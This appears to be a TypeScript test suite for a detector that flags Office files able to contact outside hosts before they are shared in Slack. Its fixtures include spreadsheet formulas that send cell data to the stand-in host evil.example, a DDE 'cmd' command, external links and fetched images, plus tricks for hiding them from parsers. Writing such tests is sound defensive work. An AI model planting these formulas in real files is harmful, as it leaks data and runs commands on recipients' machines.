import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { reachesOut } from '../../../src/slack/files/reaches-out.js';

type Parts = Readonly<Record<string, string | Uint8Array>>;

function office(name: string, parts: Parts) {
  const bytes = Object.entries(parts).map(([part, content]): [string, Uint8Array] => [
    part,
    typeof content === 'string' ? strToU8(content) : content,
  ]);
  return { name, bytes: zipSync(Object.fromEntries(bytes)) };
}

function sheet(cells: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="urn:s" xmlns:x="urn:s" xmlns:é="urn:s"><sheetData>${cells}</sheetData></worksheet>`;
}

function book(cells: string, more: Parts = {}) {
  return office('book.xlsx', { 'xl/worksheets/sheet1.xml': sheet(cells), ...more });
}

function cell(formula: string): string {
  const text = formula.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  return `<c r="A1"><f>${text}</f><v>1</v></c>`;
}

function related(type: string, target: string): Parts {
  return {
    'xl/_rels/a.rels': `<Relationships xmlns="urn:r"><Relationship Id="r1" Type="http://schemas/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  };
}

const EVIL = 'HYPERLINK("http://evil.example/?"&A1,"more")';

describe('a workbook', () => {
  it.each([
    ['sums', cell('SUM(A1:A2)')],
    ['words that only look like it', cell('IF(A1>1,"see HYPERLINK(x)","b|c!")')],
    ['another sheet', cell('\'My sheet\'!A1&"[1]"')],
    ['a column of a table', cell('SUM(Table1[Amount])')],
    ['text of that form', '<c t="inlineStr"><is><t>=HYPERLINK("http://evil.example")</t></is></c>'],
    ['a shared formula', '<c><f t="shared" si="0">A1*2</f></c><c><f t="shared" si="0"/></c>'],
  ])('with %s is sent', async (_, cells) => {
    expect(await reachesOut(book(cells))).toBe(false);
  });

  it.each([
    EVIL,
    '_xlfn.WEBSERVICE("http://evil.example/?"&A1)',
    'FILTERXML("<a/>","//a")',
    '1+importxml("http://evil.example","//a")',
    'RTD("a",,"b")',
    "cmd|'/c calc'!A1",
    '[1]Sheet1!A1',
    "'C:\\folder\\[book.xlsx]Sheet1'!A1",
    "'\\\\evil.example\\share\\[b.xlsx]S'!A1",
  ])('with the formula %s is not', async (formula) => {
    expect(await reachesOut(book(cell(formula)))).toBe(true);
  });

  it.each([
    ['a prefix', `<x:c><x:f>${EVIL}</x:f></x:c>`.replace('&', '&amp;')],
    ['a prefix beyond ASCII', `<é:f>${EVIL}</é:f>`.replace('&', '&amp;')],
    ['character references', `<f>&#72;YPERLINK(&#x22;http://evil.example&#x22;)</f>`],
    ['a CDATA section', `<f><![CDATA[${EVIL}]]></f>`],
    ['a comment inside', `<f>HYPER<!-- -->LINK("http://evil.example")</f>`],
    ['an element inside', `<f>HYPER<x/>LINK("http://evil.example")</f>`],
    ['a line end in the tag', `<f\n>${EVIL}</f>`.replace('&', '&amp;')],
    ['a condition', `<cfRule><formula>${EVIL}</formula></cfRule>`.replace('&', '&amp;')],
    ['a check of input', `<formula1>${EVIL}</formula1>`.replace('&', '&amp;')],
    [
      'a column of a table',
      `<calculatedColumnFormula>${EVIL}</calculatedColumnFormula>`.replace('&', '&amp;'),
    ],
    ['no well-formed XML', '<f>1</g>'],
  ])('that hides one by %s is not', async (_, cells) => {
    expect(await reachesOut(book(cells))).toBe(true);
  });

  it('that hides one in another encoding is not sent', async () => {
    const wide = Buffer.from(`\ufeff${sheet(cell(EVIL)).replace('UTF-8', 'UTF-16')}`, 'utf16le');
    const big = Buffer.from(wide).swap16();
    const seven = sheet(cell('1')).replace('UTF-8', 'UTF-7');
    for (const part of [wide, big, strToU8(seven)])
      expect(await reachesOut(office('b.xlsx', { 'xl/other/named.xml': part }))).toBe(true);
  });

  it.each([
    ['a link to another workbook', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }],
    ['a connection', { 'xl/connections.xml': '<connections/>' }],
    ['macros', { 'xl/vbaProject.bin': new Uint8Array([1]) }],
    ['a control', { 'xl/activeX/activeX1.bin': new Uint8Array([1]) }],
    ['a picture that is fetched', related('image', 'http://evil.example/a.png')],
    ['a declaration of entities', { 'xl/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }],
    [
      'a name',
      { 'xl/workbook.xml': '<w><definedName name="a">WEBSERVICE("http://evil")</definedName></w>' },
    ],
  ])('with %s is not sent', async (_, parts: Parts) => {
    expect(await reachesOut(book(cell('1+1'), parts))).toBe(true);
  });

  it('with a link that waits for a click is sent', async () => {
    const parts = related('hyperlink', 'https://shop.example/');
    expect(await reachesOut(book(cell('1+1'), parts))).toBe(false);
  });

  it('that nobody can look into is not sent', async () => {
    const bytes = Buffer.from('no workbook');
    expect(await reachesOut({ name: 'book.xlsx', bytes })).toBe(true);
  });
});

describe('other Office files', () => {
  const field = (text: string) =>
    office('report.docx', {
      'word/document.xml': `<w:d xmlns:w="urn:w">${text}</w:d>`,
    });

  it.each([
    ['a formula', '<t:c xmlns:t="urn:t" t:formula="of:=WEBSERVICE(&quot;http://evil&quot;)"/>'],
    ['a table of another document', '<t:table-source xmlns:t="urn:t"/>'],
  ])('an OpenDocument sheet with %s is not sent', async (_, content) => {
    expect(await reachesOut(office('a.ods', { 'content.xml': content }))).toBe(true);
  });

  it('a document with a field that fetches is not sent, also in pieces', async () => {
    const pieces = ['DDE', 'AUTO c:\\windows\\cmd'].map((t) => `<w:instrText>${t}</w:instrText>`);
    expect(await reachesOut(field(pieces.join('<w:r/>')))).toBe(true);
    expect(await reachesOut(field('<w:fldSimple w:instr="INCLUDEPICTURE x"/>'))).toBe(true);
  });

  it('a document of words and page numbers is sent', async () => {
    expect(await reachesOut(field('<w:instrText>PAGE</w:instrText>'))).toBe(false);
  });

  it('files of other kinds are none of its business', async () => {
    expect(await reachesOut({ name: 'a.png', bytes: Buffer.from('png') })).toBe(false);
  });
});
